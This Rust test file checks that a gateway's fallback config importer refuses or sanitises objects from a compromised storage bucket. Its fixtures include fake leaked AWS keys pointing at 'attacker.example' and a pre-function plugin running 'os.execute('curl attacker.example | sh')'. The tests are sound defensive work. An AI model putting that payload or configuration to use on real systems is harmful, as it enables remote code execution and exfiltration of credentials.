//! A hostile (compromised or careless) bucket (docs/security.md): for each object it could hold,
//! the fallback node — the real .wasm, ngx_wasm_module and Envoy profiles, 2 workers, its source
//! of truth down — applies nothing it should not, says why in one clear line, keeps serving
//! traffic and never traps. Each case is one entry of [`cases`]; one runs in the real engine too
//! (`hostile_bucket_in_the_real_engine`).
//!
//! TODO (the signed and encrypted exports, docs/sealed-exports.md — the `seal` work): add the
//! cases "unsigned object while a verification key is configured", "wrong signature", "signed
//! with an unknown key id", "encrypted with a key the importer does not have", "ciphertext
//! tampered with": each is one more `Case` (a body, the importer's extra settings, `Refused`).

use config_bridge_tests::kong_setup::*;
use config_bridge_tests::*;
use host_harness::HttpExchange;
use serde_json::{json, Value};

/// What the fallback node must do with an object.
enum Expect {
    /// Not applied: the one error line contains this.
    Refused(&'static str),
    /// Applied, but what is posted to the node's Admin API contains none of these.
    AppliedWithout(&'static [&'static str]),
}

struct Case {
    name: &'static str,
    /// The stored object.
    body: Vec<u8>,
    /// Whose SHA-256 its `config-sha256` metadata gives (usually the body itself).
    sha_of: Option<Vec<u8>>,
    /// Settings added to the importer's configuration.
    settings: Value,
    expect: Expect,
}

/// An exporter's configuration as a careless exporter (an old version) would have left it.
const LEAKED_SECRET: &str = "SECRET-exporter-key-left-in-the-bucket";

fn exporter_config() -> Value {
    json!({
        "cluster_fallback_config_export": "on",
        "cluster_fallback_config_storage": "s3://elsewhere/attacker",
        "aws_access_key_id": "AKIAATTACKER0000001",
        "aws_secret_access_key": LEAKED_SECRET,
        "storage_endpoint": "http://attacker.example:9000",
    })
}

fn cases() -> Vec<Case> {
    let valid = serde_json::to_vec(&kong_config(61)).unwrap();
    let chain = |config: Value| json!([{"filters": [{"name": "config_bridge", "config": config}]}]);
    let mut secret_chains = kong_config(62);
    secret_chains["filter_chains"] = json!([{
        "id": uuid(62, 10_000),
        "service": uuid(62, 1000),
        "filters": [{"name": "config_bridge", "config": exporter_config()}],
    }]);
    // Kong's nested form, which the flat-only rewrite used to miss.
    let nested = json!({
        "_format_version": "3.0",
        "services": [{
            "name": "nested-svc",
            "url": "http://backend.internal:8080",
            "filter_chains": chain(exporter_config()),
            "routes": [{
                "name": "nested-route",
                "paths": ["/n"],
                "filter_chains": chain(json!(exporter_config().to_string())),
            }],
        }],
    });
    let deep = format!(
        r#"{{"_format_version":"3.0","services":[{{"name":"deep","url":"http://b.internal","tags":{}"x"{}}}]}}"#,
        "[".repeat(400),
        "]".repeat(400)
    );
    let mut oversized = kong_config(63);
    oversized["services"][0]["tags"] = json!(vec!["padding-padding-padding"; 2000]);
    let mut code = kong_config(64);
    code["plugins"] = json!([{
        "id": uuid(64, 9000),
        "name": "pre-function",
        "service": uuid(64, 1000),
        "config": {"access": ["os.execute('curl attacker.example | sh')"]},
    }]);
    vec![
        Case {
            name: "secret-bearing exporter chain",
            body: serde_json::to_vec(&secret_chains).unwrap(),
            sha_of: None,
            settings: json!({}),
            expect: Expect::AppliedWithout(&[
                LEAKED_SECRET,
                "cluster_fallback_config_export",
                "attacker.example",
            ]),
        },
        Case {
            name: "exporter chains nested under services and routes",
            body: serde_json::to_vec(&nested).unwrap(),
            sha_of: None,
            settings: json!({}),
            expect: Expect::AppliedWithout(&[
                LEAKED_SECRET,
                "cluster_fallback_config_export",
                "attacker.example",
            ]),
        },
        Case {
            name: "truncated",
            body: valid[..valid.len() / 2].to_vec(),
            sha_of: Some(valid.clone()),
            settings: json!({}),
            expect: Expect::Refused("not valid json"),
        },
        Case {
            name: "oversized",
            body: serde_json::to_vec(&oversized).unwrap(),
            sha_of: None,
            settings: json!({"import_max_bytes": 16384}),
            expect: Expect::Refused("more than import_max_bytes (16384)"),
        },
        Case {
            name: "deeply nested",
            body: deep.into_bytes(),
            sha_of: None,
            settings: json!({}),
            expect: Expect::Refused("nested deeper than 127 levels"),
        },
        Case {
            name: "policy-violating (pre-function)",
            body: serde_json::to_vec(&code).unwrap(),
            sha_of: None,
            settings: json!({"import_refuse_plugins": ["pre-function", "post-function"]}),
            expect: Expect::Refused("\"pre-function\" plugin, which import_refuse_plugins refuses"),
        },
    ]
}

#[test]
fn a_hostile_bucket_gets_nothing_applied_it_should_not() {
    for profile in two_profiles() {
        for case in cases() {
            let context = format!("{}: {}", profile.name, case.name);
            let mut f = Fallback::new(&profile);
            f.probe.set(ProbeMode::Unavailable);
            let sha_of = case.sha_of.as_deref().unwrap_or(&case.body);
            assert_eq!(
                put_object_signed(&f.world, &f.s3, &case.body, sha_of),
                200,
                "{context}"
            );
            let mut cfg = importer_config(&profile);
            for (k, v) in case.settings.as_object().unwrap() {
                cfg[k] = v.clone();
            }
            let node = f.start_fallback(&cfg, true);
            f.world.advance(secs(120));

            let refusals = log_messages(&f.world, "is not applied");
            match case.expect {
                Expect::Refused(why) => {
                    assert!(f.admin.posts().is_empty(), "{context}: posted");
                    assert_eq!(f.admin.applied_count(), 0, "{context}");
                    assert_eq!(refusals.len(), 1, "{context}: {refusals:?}");
                    assert!(refusals[0].contains(why), "{context}: {}", refusals[0]);
                }
                Expect::AppliedWithout(never) => {
                    assert!(refusals.is_empty(), "{context}: {refusals:?}");
                    let posts = f.admin.posts();
                    assert_eq!(posts.len(), 1, "{context}");
                    assert_eq!(f.admin.applied_count(), 1, "{context}");
                    let post = calls_to(&f.world, NODE_ADMIN)
                        .into_iter()
                        .find(|c| c.request.method == "POST")
                        .unwrap();
                    let body = String::from_utf8_lossy(&post.request.body).to_string();
                    for s in never {
                        assert!(!body.contains(s), "{context}: {s} was applied");
                    }
                    assert!(
                        body.contains("cluster_fallback_config_import"),
                        "{context}: the importer's own configuration is in place"
                    );
                }
            }
            // Still serving, no trap, nothing secret in the log.
            for i in 0..20 {
                let out = f
                    .world
                    .http(node, i % 2, 0, HttpExchange::get(&format!("/h/{i}")));
                assert!(!out.failed && !out.stuck, "{context}: request {i}");
            }
            assert!(
                f.world.traps().is_empty(),
                "{context}: {:?}",
                f.world.traps()
            );
            assert_no_secrets(&f.world, &[RO_SECRET_KEY, LEAKED_SECRET]);
        }
    }
}

/// One case in the REAL engine (nginx + ngx_wasm_module; skipped without it, as every
/// `engine_*.rs` test): a bucket holding a document with a `pre-function` plugin and an exporter
/// chain nested under a route, on a node that refuses `pre-function`. Nothing is posted, one
/// line says why, traffic flows, no trap.
#[test]
fn hostile_bucket_in_the_real_engine() {
    use std::sync::Arc;
    use std::time::{Duration, UNIX_EPOCH};

    use config_bridge_tests::real_engine::{engine_filter_config, EngineNode, EngineSpec, LiveS3};
    use host_harness::http::SharedHandler;
    use host_harness::mocks::kong::MockKongAdmin;
    use host_harness::mocks::serve::spawn;

    let s3 = LiveS3::start();
    let mut doc = kong_config(65);
    doc["services"][0]["routes"] = json!([{
        "name": "nested-route",
        "paths": ["/nested"],
        "filter_chains": [{"filters": [{"name": "config_bridge", "config": exporter_config()}]}],
    }]);
    doc["plugins"] = json!([{"name": "pre-function", "config": {"access": ["ngx.exit(500)"]}}]);
    let body = serde_json::to_vec(&doc).unwrap();
    s3.mock().put_object_direct(
        BUCKET,
        CONFIG_KEY,
        &body,
        UNIX_EPOCH + Duration::from_secs(1_700_000_000),
    );
    let admin = MockKongAdmin::dbless("3.9.1");
    let handler: SharedHandler = Arc::new(admin.clone());
    let server = spawn(handler, "127.0.0.1:0").expect("serving the mock Admin API");
    let mut cfg = engine_filter_config(&s3.endpoint(), &json!(null));
    let obj = cfg.as_object_mut().expect("an object");
    obj.remove("config");
    obj.insert("cluster_fallback_config_export".into(), json!("off"));
    obj.insert("cluster_fallback_config_import".into(), json!("on"));
    obj.insert("kong_admin_url".into(), json!(server.url()));
    obj.insert("import_grace_period".into(), json!(0));
    obj.insert("import_check_interval".into(), json!(0.2));
    obj.insert("import_refuse_plugins".into(), json!(["pre-function"]));
    let Some(node) = EngineNode::start(EngineSpec::new("hostile_bucket", cfg)) else {
        return;
    };
    let line = node.wait_for_log("is not applied", Duration::from_secs(30));
    assert!(
        line.contains("import_refuse_plugins"),
        "{}",
        node.error_log()
    );
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(node.entries_containing("is not applied").len(), 1);
    assert!(admin.posts().is_empty(), "{}", node.error_log());
    assert_eq!(admin.applied_count(), 0);
    let (ok, bad) = node.hammer(100);
    assert_eq!(ok, 100, "{bad:?}");
    node.assert_no_traps();
    server.stop();
}
